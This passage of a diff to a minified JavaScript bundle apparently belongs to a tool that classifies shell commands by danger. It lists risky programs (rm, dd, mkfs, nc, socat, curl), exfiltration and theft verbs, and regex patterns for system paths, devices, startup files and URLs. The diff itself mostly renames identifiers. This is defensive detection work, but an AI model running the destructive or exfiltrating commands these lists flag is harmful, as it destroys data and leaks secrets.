+"0","!":"%%","$":"7340281946"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD":"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E"\
+:"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a-z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9",\
+"space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-workspace","delete-vcs"]},"chmod":{"only":["change-rights-\
+of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}},"silent":["[","test","true","false",":","rm","mkdir","\
+touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.x\
+fs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl\
+","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","pyth\
+on3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","\
+usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","g\
+pg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","\
+ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","c\
+hown","chgrp","which","whereis","type","whatis","man","info","help","apropos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs",\
+"exit","return","break","continue","export","unset","set","shift","read","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","b\
+un","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude\
+","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","\
+az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","\
+vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","de\
+no","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top",\
+"htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","\
+sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","opens\
+sl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslo\
+okup","host","traceroute","useradd","userdel","usermod","passwd","crontab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","ps\
+ql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","update\
+db","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk\
+","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bz\
+cat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","c\
+ol","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]},"sentences":{"before_order":["pleas\
+e","then","next","now","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","afterwards","afterward","after","that",\
+"immediately","quickly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go","ahead","kindly","step","todo","task\
+","goal","plan","objective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","safe","start","by","begin","in","order",\
+"bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuite","maintenant","luego","ahora","prim\
+ero","despu\\u00e9s","por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","completely","permanently","forcefully\
+","forcibly","recursively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","probably","simply","again","all"],"deni\
+als":["not","don't","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't","doesn't","didn't","wouldn't","coul\
+dn't","isn't","aren't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disal\
+low","disallowed","block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warns","rather","instead","neither","hard\
+ly","nothing","nobody","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","explains","document","documents","descri\
+be","describes","discuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investigate","analyze","analyse","research",\
+"check","verify","confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects",\
+"report","reports","flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword","rewrite-docs","translate","list","s\
+uggests","assert","handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has"\
+,"had","does","doesn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","works","happens","leads","means","see\
+ms","appears","crashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","t\
+hey","he","she","there","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i"\
+,"you","whatever","everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","produce"],"program":["script","program\
+","command","one-liner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","\
+email","share","publish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key\
+","secret","credential","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","g\
+et","plug","ship","scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type\
+","issue","launch","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","\
+disallowed","risky","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changelog","test","tests","case","cases","do\
+cument","documents","documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["no\
+t","never","instead","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","\
+us","then","must","can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names"\
+:["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws",\
+"gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat"\
+,"mv","cp","bash","sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean"\
+,"checkout","restore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","ex\
+ec","destroy","system","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","\
+release","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put"\
+,"set":"set","shut":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made"\
+,"overwrite":"overwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|\
+/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sy\
+s|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\
+\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\
+\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d\
+{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"}}}`);var cn=["reads","writes","deletes","moves","changes"],Ak=Object.keys(z.paths.classes),Ku=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Sr=t=>Ku(
+t,e=>new Set(e)),Qa=t=>Ku(t,([e,s])=>new RegExp(e,s)),{irregular:Tk,classes:Pk,fences:Rk,...Ik}=z.sentences,Ae=t=>new Map(Object.entries(t)),S={grammars:Ae(z.arguments.
+grammars),grammarAliases:Ae(z.arguments.aliases),gitOptions:Ae(z.arguments.git_options),dryRuns:Ae(z.arguments.dry_runs),switches:new Set(z.arguments.switches),
+help:Sr(z.arguments.help),roles:Ae(z.arguments.roles),programWords:Sr(z.programs.words),interpreters:Ae(z.programs.interpreters),consoles:Ae(z.programs.consoles),
+wrappers:Ae(z.programs.wrappers),runners:Ae(z.programs.runners),packageVerbs:new Set(z.programs.package_verbs),smallLanguages:Ae(z.programs.small_languages),codeVariables:Ae(
+z.programs.code_variables),gitVariables:z.programs.git_variables,gitCode:Ae(z.programs.git_code),codeOptions:Ae(z.programs.code_options),formats:Ae(z.programs.formats),
+getopt:z.programs.getopt,uniqueMark:z.programs.shell_variables.$,shellVariables:z.programs.shell_variables,makeVariables:z.programs.make_variables,escapes:z.programs.
+escapes,characterClasses:z.programs.character_classes,candidates:Ae(z.programs.candidates),silent:new Set(z.programs.silent),risky:new Set(z.programs.risky),nonRunners:new Set(
+z.programs.non_runners),filters:new Set(z.programs.filters),clients:Ae(z.clients.clients),creations:Ae(z.clients.creations),clientWords:Sr(z.clients.words),ownData:z.
+clients.own,languages:z.languages.languages,dialects:Ae(z.languages.dialects),awkLexer:z.languages.awk,precedence:new Map(Object.entries(z.languages.operators)),
+sqlStatements:z.languages.sql,sharedCalls:z.languages.shared,codeWords:Sr(z.languages.words),codeSigns:Qa(z.languages.signs),sentences:Sr(Ik),irregularVerbs:Ae(
+Tk),fences:Ae(Rk),objectClasses:Ae(Pk),forms:Qa(z.forms.forms),textForms:Qa(z.forms.texts),purposes:Ae(z.paths.purposes),pathWords:Sr(z.paths.words),credentialStores:z.
+paths.credential_stores,credentialSamples:z.paths.credential_samples};var{grammars:Qu,grammarAliases:Xu,gitOptions:qk,forms:Ok}=S;function $o(t,e){let s=e.filter(r=>r.startsWith(t));return e.includes(t)||s.length!==1?t:s[0]}var Cr=t=>Qu.
+get(Xu.get(t)??t);function _e(t,e){let s=Xu.get(t)??t,r=Cr(s)??{},n=[],o=[],i=[],a=[...e],l=(d,u)=>u&&o.push({flag:d,value:u}),c=!1;for(let d=a.shift();d!==void 0;d=
 a.shift()){let{text:u,glob:p}=d;if(c||!/^-./.test(u))i.push(d),i.length===1&&(r={...r,...Qu.get(`${s} ${u}`)});else if(u==="--")c=!0;else if(r.whole&&Ok.signal_option.
 test(u))n.push(u);else if(u.startsWith("--")||r.single){let[,f=u,m]=/^([^=]*)=([\s\S]*)$/.exec(u)??[],h=s==="git"?Nk(i[0]?.text,f):f;n.push(h),m!==void 0?l(h,R(
 m,p)):r.long?.includes(h.replace(/^-+/,""))&&l(h,a.shift())}else{for(let f=1;f<u.length;f+=1){let m=`-${u[f]}`;if(n.push(m),!r.short?.includes(u[f]))continue;let h=u.
 slice(f+1);l(m,h===""?a.shift():R(h.replace(/^=/,""),p));break}u.length>2&&n.push(u)}}return{flags:n,options:o,operands:i}}var pe=(t,...e)=>t.some(s=>e.some(r=>s===
 r||s.length>=5&&s.startsWith("--")&&r.startsWith(s)));function Nk(t,e){let s=qk.get(t??"")?.flatMap(r=>[`--${r}`,`--no-${r}`])??[];return $o(e,s)}function dn({program:t,
-args:e}){let{flags:s,options:r,operands:n}=$e(t,e),o=l=>/^(-o|-O|--output|--output-document|--out|-OutFile)$/.test(l),i=r.flatMap(({flag:l,value:c})=>o(l)&&c.text!==
-"-"?[c]:[]),a=/^(wget2?|aria2c|axel)$/.test(t)||pe(s,"-O","--remote-name");return i.length>0||!a?i:n.map(({text:l})=>R(Yu.posix.basename(l.replace(/[?#].*$/,""))))}gt();function _e(t,e=new Map){return s=>{let r=e.get(s);if(r!==void 0)return r;let n=t(s);return e.set(s,n),n}}var Ks=32,Lk=65536,Zu=4096,ns=`${"\uFFFC"}\uFFF9`,I={kind:"unknown"},ep=t=>t.length>Lk?"\uFFFC":t;function bt(t,e){return t.kind==="content"?t:w.alternatives(v.
+args:e}){let{flags:s,options:r,operands:n}=_e(t,e),o=l=>/^(-o|-O|--output|--output-document|--out|-OutFile)$/.test(l),i=r.flatMap(({flag:l,value:c})=>o(l)&&c.text!==
+"-"?[c]:[]),a=/^(wget2?|aria2c|axel)$/.test(t)||pe(s,"-O","--remote-name");return i.length>0||!a?i:n.map(({text:l})=>R(Yu.posix.basename(l.replace(/[?#].*$/,""))))}gt();function Se(t,e=new Map){return s=>{let r=e.get(s);if(r!==void 0)return r;let n=t(s);return e.set(s,n),n}}var Ks=32,Lk=65536,Zu=4096,ns=`${"\uFFFC"}\uFFF9`,I={kind:"unknown"},ep=t=>t.length>Lk?"\uFFFC":t;function bt(t,e){return t.kind==="content"?t:w.alternatives(v.
 texts(t).map(s=>s.includes("\uFFFC")?"\uFFFC":ep(e(s))))}var tp=new Set(["function","name","made","map","choice"]),Dk=/^(?:None|null|undefined|nil|undef)$/,jk=12,
 w={text:(...t)=>({kind:"text",of:t}),number:(t=Number.NaN)=>Number.isNaN(t)?I:{kind:"number",number:t},list:t=>({kind:"list",items:t.slice(0,Zu)}),name:(t,e)=>({
 kind:"name",path:t,self:e}),derived:(t,...e)=>({kind:"made",by:t,args:e}),content:(t,e=[])=>({kind:"content",files:e,from:t}),variable:(t="")=>({...w.content([Et(
 "printenv",t===""?[]:[R(t)])]),variable:t}),glob:t=>t.kind==="text"?{...t,glob:!0}:t,alternatives(t){let e=[...new Set(t)];return e.length>Ks&&e.splice(Ks,e.length,
 "\uFFFC"),{kind:"text",of:e.length>0?e:["\uFFFC"]}},joined(t,e=""){let s=l=>l.length>Ks?["\uFFFC"]:l,[r=[""],...n]=t.map(v.texts),o=n.reduce((l,c)=>s(l.flatMap(
-d=>c.map(u=>ep(d+e+u)))),s(r)),i=w.merged(t.filter(l=>l.kind==="content")),a=w.alternatives(o);return i.kind==="content"?{...i,of:v.texts(a)}:t.some(N.glob)?w.glob(
+d=>c.map(u=>ep(d+e+u)))),s(r)),i=w.merged(t.filter(l=>l.kind==="content")),a=w.alternatives(o);return i.kind==="content"?{...i,of:v.texts(a)}:t.some(O.glob)?w.glob(
 a):a},merged(t){let e=t.filter(l=>l.kind!=="unknown"&&!(l.kind==="name"&&Dk.test(l.path))),[s]=e;if(!s)return I;if(t.length===1)return s;if(e.every(l=>l.kind===
-"text"||l.kind==="number")){let l=w.alternatives([...e,...t].flatMap(v.texts));return e.some(N.glob)?w.glob(l):l}let r=e.filter(l=>l.kind==="content");if(r.length>
+"text"||l.kind==="number")){let l=w.alternatives([...e,...t].flatMap(v.texts));return e.some(O.glob)?w.glob(l):l}let r=e.filter(l=>l.kind==="content");if(r.length>
 0)return{kind:"content",files:[...new Set(r.flatMap(l=>l.files))].slice(0,Ks),from:[...new Set(r.flatMap(l=>l.from))].slice(0,Ks),of:r.length===1?r[0].of:void 0};
 if(e.every(({kind:l})=>tp.has(l)))return w.choice(e);let n=e.filter(l=>l.kind==="list");if(n.length<e.length)return s;let o=Math.max(...n.map(l=>l.items.length)),
 i=Array.from({length:o},(l,c)=>w.merged(n.flatMap(d=>d.items[c]??[]))),a=n.slice(0,Ks).flatMap(l=>l.lists??[l.items]);return{kind:"list",items:i,lists:a}},choice(t){
 let e=[...new Set(t.flatMap(s=>s.kind==="choice"?s.values:[s]))];return e.length===1?e[0]:{kind:"choice",values:e.slice(0,Ks)}}},v={texts(t){return t?.kind==="t\
 ext"||t?.kind==="content"&&t.of?t.of:[t?.kind==="number"?String(t.number):"\uFFFC"]},firstText:t=>v.texts(t)[0],word:t=>t?.kind==="name"?t.path:v.firstText(t),lastName:t=>t.
 slice(t.lastIndexOf(".")+1),number:t=>t?.kind==="number"?t.number:void 0,elements(t){return t.kind==="list"?t.items:t.kind==="map"?[...t.entries].map(([s,r])=>s.
-startsWith("\uFFFC")&&r.kind!=="content"?r:w.text(s)):t.kind==="text"&&!t.glob&&t.of.length===1&&N.known(t)?Array.from(v.firstText(t).slice(0,Zu),s=>w.text(s)):
-[z.client(t)??z.secretContent(t)??(t.kind==="content"||t.kind==="made"||N.glob(t)?t:I)]},items:t=>t?.kind==="list"?t.items:[],flat:t=>t.flatMap(e=>e.kind==="lis\
+startsWith("\uFFFC")&&r.kind!=="content"?r:w.text(s)):t.kind==="text"&&!t.glob&&t.of.length===1&&O.known(t)?Array.from(v.firstText(t).slice(0,Zu),s=>w.text(s)):
+[G.client(t)??G.secretContent(t)??(t.kind==="content"||t.kind==="made"||O.glob(t)?t:I)]},items:t=>t?.kind==="list"?t.items:[],flat:t=>t.flatMap(e=>e.kind==="lis\
 t"?e.items:[e]),parts:(t,e=0)=>t.slice(0,64).flatMap(s=>s.kind==="choice"?v.parts(s.values,e+1):e>4||s.kind!=="map"&&s.kind!=="list"?[{key:"",value:s}]:s.kind===
-"list"?v.parts(s.items,e+1):[...s.entries].flatMap(([r,n])=>[{key:r,value:n},.../^(?:map|list|choice)$/.test(n.kind)?v.parts([n],e+1):[]]))},N={made:(t,...e)=>t?.
-kind==="made"&&e.includes(t.by),mock:t=>N.made(z.root(t),"mock"),glob:t=>t?.kind==="text"&&t.glob===!0,known:t=>v.texts(t).every(e=>!e.includes("\uFFFC")),uneven(t){
+"list"?v.parts(s.items,e+1):[...s.entries].flatMap(([r,n])=>[{key:r,value:n},.../^(?:map|list|choice)$/.test(n.kind)?v.parts([n],e+1):[]]))},O={made:(t,...e)=>t?.
+kind==="made"&&e.includes(t.by),mock:t=>O.made(G.root(t),"mock"),glob:t=>t?.kind==="text"&&t.glob===!0,known:t=>v.texts(t).every(e=>!e.includes("\uFFFC")),uneven(t){
 if(t.length<2||t.length>jk)return!1;let e=t.every(({kind:r})=>r==="list"||tp.has(r)),s=t.every(r=>r.kind==="text"&&!r.glob);return e||s&&t.some(r=>v.texts(r).some(
-n=>/\S\s+\S/.test(n)))}},z={root(t){let e=t;for(;e?.kind==="name";)e=e.self;return e},client(t){let e=z.root(t);return e?.kind==="choice"?e.values.map(z.client).
-find(s=>s):N.made(e,"sdk","service","data")?e:void 0},secretContent(t){let e=z.root(t);return e?.kind==="content"&&e.from.some(({args:r})=>r[1]?.text==="get-sec\
+n=>/\S\s+\S/.test(n)))}},G={root(t){let e=t;for(;e?.kind==="name";)e=e.self;return e},client(t){let e=G.root(t);return e?.kind==="choice"?e.values.map(G.client).
+find(s=>s):O.made(e,"sdk","service","data")?e:void 0},secretContent(t){let e=G.root(t);return e?.kind==="content"&&e.from.some(({args:r})=>r[1]?.text==="get-sec\
 ret-value")?e:void 0},content(t,e=0){if(e>4)return;let s=w.merged(t.slice(0,256).map(r=>{if(r.kind==="content")return r;let n=r.kind==="map"?[...r.entries.values()]:
-v.flat([r]),o=r.kind==="made"?r.args:n;return z.content(o,e+1)??I}));return s.kind==="content"?{...s,variable:void 0}:void 0}},Ju=/^(?:self\.|this\.|\$this\.|@\w)/,
+v.flat([r]),o=r.kind==="made"?r.args:n;return G.content(o,e+1)??I}));return s.kind==="content"?{...s,variable:void 0}:void 0}},Ju=/^(?:self\.|this\.|\$this\.|@\w)/,
 Er=class{constructor(e){this.outer=e}outer;values=new Map;get(e){return this.values.get(e)??this.outer?.get(e)}set(e,s){let r=this;for(;!r.values.has(e)&&r.outer;)
 r=r.outer;let n=Ju.test(e)?r.values.get(e):void 0,o=n?.kind==="text"&&s.kind==="text"?w.merged([n,s]):s;(r.values.has(e)||Ju.test(e)?r:this).values.set(e,o)}declare(e,s){
 this.values.set(e,s)}};var X=(t,e)=>S.codeSigns[e]?.test(t)===!0;var Wk=/^(?:None|null|undefined|nil|undef|false|False)$/,Mk=65536;function _o(t,e,s,r){if(t==="||"||t==="or"||t==="??"){if(e.kind==="content")return{...e,of:[...v.
@@ -2711,12 +2711,12 @@ texts(e),...v.texts(s)]};if(e.kind==="text"&&s.kind==="text")return w.merged([e,
 "unknown"||n?s:e}return(t==="&&"||t==="and")&&s.kind!=="unknown"?s:t==="|"&&[e,s].some(({kind:n})=>n==="name"||n==="text")?w.choice([e,s]):e.kind==="number"&&s.
 kind==="number"?w.number(Fk[t]?.(e.number,s.number)):t==="+"||r?e.kind==="list"||s.kind==="list"?w.list(v.flat([e,s])):w.joined([e,s]):t==="/"&&(e.kind==="text"||
 s.kind==="text"||e.kind==="content"&&e.of)?os([e,s]):t==="%"&&e.kind==="text"?Xa(e,v.flat([s])):(t==="*"||t==="x")&&s.kind==="number"?Vk(e,s.number):t==="-"&&e.
-kind==="list"?e:z.content([e,s])??I}var Fk={"+":(t,e)=>t+e,"-":(t,e)=>t-e,"*":(t,e)=>t*e,"/":(t,e)=>t/e,"%":(t,e)=>(t%e+e)%e,"^":(t,e)=>t^e,"<<":(t,e)=>t<<e},Vk=(t,e)=>bt(
+kind==="list"?e:G.content([e,s])??I}var Fk={"+":(t,e)=>t+e,"-":(t,e)=>t-e,"*":(t,e)=>t*e,"/":(t,e)=>t/e,"%":(t,e)=>(t%e+e)%e,"^":(t,e)=>t^e,"<<":(t,e)=>t<<e},Vk=(t,e)=>bt(
 t,s=>s.repeat(Math.max(0,Math.min(e,Mk/(s.length||1)+1))));function os(t){return t.reduce((e,s)=>v.texts(s).every(r=>r.startsWith("/")||r.startsWith("~"))?s:w.joined(
 [w.text(...v.texts(e).map(r=>r.replace(/(?<=[^/])$/,"/"))),s]))}function Xa(t,e,s){let r=0,n=v.firstText(t).split(/(%[-+ 0#\d.*]{0,8}[sdrifxXu]|\$?\{\w{0,20}(?:![rsa])?(?::[^{}]{0,20})?\}|\$[a-z]\w{0,20})/).
 slice(0,256).map((o,i)=>{if(i%2===0)return w.text(o.replaceAll("%%","%"));let a=/^[{$]/.test(o)?/\w+/.exec(o)?.[0]:void 0;return o.startsWith("$")&&!s?.has(a??"")?
 w.text(o):a!==void 0?s?.get(a)??e[Number(a)]??I:e[r++]??I});return w.joined(n)}function So(t,[e,s,r]){let[n,o]=[v.number(e),v.number(s)],i=v.number(r)===-1;if(t.
-kind==="list"){let a=t.items.slice(n,o);return w.list(i?a.reverse():a)}return t.kind!=="text"?z.content([t])??t:bt(t,a=>{let l=Array.from(a).slice(n,o);return(i?
+kind==="list"){let a=t.items.slice(n,o);return w.list(i?a.reverse():a)}return t.kind!=="text"?G.content([t])??t:bt(t,a=>{let l=Array.from(a).slice(n,o);return(i?
 l.reverse():l).join("")})}var Co={args:[],environment:{},variables:new Map},{forms:Ja}=S,Uk=16,Dt=({text:t,glob:e})=>({kind:"text",of:[t],glob:e}),sp=({input:t=""})=>t.replace(/\n$/,"").
 split(`
 `).slice(0,Uk);function Ys(t){if(t.input!==void 0)return w.text(...new Set([t.input.replace(/\n$/,""),...sp(t)]))}function rp(t,{args:e,environment:s,input:r=""},n){
@@ -2780,19 +2780,19 @@ t,r):void 0,i=o??Xe(Xs.sql_token,t,r),{shell:a,piped:l,program:c,quote:d,quoted:
 d==='"'&&/[\s/]/.test(u),x=m!==void 0&&/^go$/i.test(m)&&t[r-1]===`
 `;g!==void 0?e.push([{kind:"shell",text:g}],[]):o||h===";"||x?e.push([]):u!==void 0?s(y?"text":"word",u.replaceAll(d+d,d)):f!==void 0?s("text",f):h!==void 0?s("\
 mark",h):(m!==void 0||p!==void 0)&&s("word",m??p),r+=i[0].length}return e.filter(r=>r.length>0)}var{codeWords:pp}=S,Eo=w.glob(w.text("**"));function il({collector:t},e,s=I,r=[]){let[n=I,...o]=s.kind==="made"?s.args:[s],i=n.kind==="content"&&!n.of&&n.from.find(
-({program:m})=>m==="curl"),a=i?i.args.at(-1).text:n,l=[...r,...o].filter(m=>m!==void 0),c=z.content(l),d=c?[...c.files.map(m=>`@${m}`),...c.from.slice(0,1).map(
+({program:m})=>m==="curl"),a=i?i.args.at(-1).text:n,l=[...r,...o].filter(m=>m!==void 0),c=G.content(l),d=c?[...c.files.map(m=>`@${m}`),...c.from.slice(0,1).map(
 ()=>"@-")]:l.map(v.firstText);if(t.imitates("requests"))return I;let u=l.length>0&&e==="GET"?"POST":e,p=[...pp.sending_verbs.has(u)||u==="\uFFFC"?["-X",u]:[],...d.
 flatMap(m=>["-d",m]),a],f=c?.from.length?c:void 0;return w.content([t.addInvocation("curl",p,t.createInput(f))])}function fp({collector:t},e,s=I,r){let[n=I,o]=r?.
-kind==="made"?r.args:v.items(r);t.addInvocation(e,[n,o],t.createInput(z.content([s])))}function al(t,e,s,r){if(e?.kind!=="made")return!1;let{by:n,args:o}=e;return n===
+kind==="made"?r.args:v.items(r);t.addInvocation(e,[n,o],t.createInput(G.content([s])))}function al(t,e,s,r){if(e?.kind!=="made")return!1;let{by:n,args:o}=e;return n===
 "written"||n==="appended"?t.collector.recordWrite(o[0],s,r||n==="appended"):n==="request"?il(t,"POST",o[0],[s]):(n==="connection"||n==="client")&&fp(t,"nc",s,e),
 !0}var ll={run:({collector:t,named:e,receiver:s},[,...r],[n])=>{if(t.source==="ruby"&&v.word(e.get("noop"))==="true"||pp.file_programs.has(n)&&t.signs.has("dry-\
-files")||(n==="sql"||n==="django-admin"&&t.signs.has("own-settings"))&&t.isInMemory)return;let a=n==="git"?z.root(s):void 0,[l]=N.made(a,"git")?a.args:[],d=l!==
+files")||(n==="sql"||n==="django-admin"&&t.signs.has("own-settings"))&&t.isInMemory)return;let a=n==="git"?G.root(s):void 0,[l]=O.made(a,"git")?a.args:[],d=l!==
 void 0&&v.texts(l).every(p=>X(p,"passing-databases"))?{folder:R(v.firstText(l))}:{},u=n==="django-admin"?v.texts(r[0]).map(p=>[w.text(p)]):void 0;for(let p of u??
 [ol(r)])t.addInvocation(n,p,d)},chmod:({collector:t},[e=I,s])=>{let r=s?.kind==="choice"?s.values:[],n=["text","number"].map(a=>r.find(({kind:l})=>l===a)).find(
 Boolean)??s;if(r.some(a=>a.kind==="number"&&(a.number&3072)!==0))return void t.addInvocation("chmod",["u+s",e]);let i=n?.kind==="number"?n.number.toString(8):v.
 firstText(n).replace(/^0o?/,"");t.addInvocation("chmod",[i,e])},kill:({collector:t},[e=I,s=w.text("TERM")],r)=>{let n=r.includes("group")?w.joined([w.text("-"),
-e]):e,i=t.signs.has("lists-processes")&&!N.known(e)||!t.choosesProcesses&&N.made(z.root(e),"any-process"),a=`-${v.lastName(v.word(s)).replace(/^(?:SIG|:)/,"")}`;
-if(t.addInvocation(i?"pkill":"kill",[a,n]),!(i||!N.made(z.root(e),"any-process")))for(let l of t.processNames)t.addInvocation("pkill",[a,l])},write:({collector:t},[
+e]):e,i=t.signs.has("lists-processes")&&!O.known(e)||!t.choosesProcesses&&O.made(G.root(e),"any-process"),a=`-${v.lastName(v.word(s)).replace(/^(?:SIG|:)/,"")}`;
+if(t.addInvocation(i?"pkill":"kill",[a,n]),!(i||!O.made(G.root(e),"any-process")))for(let l of t.processNames)t.addInvocation("pkill",[a,l])},write:({collector:t},[
 e,s,r])=>{t.recordWrite(e,s,r?.kind==="name"||/^(?:8|append)$/.test(v.firstText(r)))},transfer:(t,[,e,s],[r])=>fp(t,r,e,s),"docker-run":({collector:t,args:[e,s],
 named:r})=>{let n=r.get("volumes"),i=(n?.kind==="map"?[...n.entries.keys()]:[]).flatMap(a=>["-v",`${a}:/mounted`]);v.word(r.get("privileged"))==="True"&&i.push(
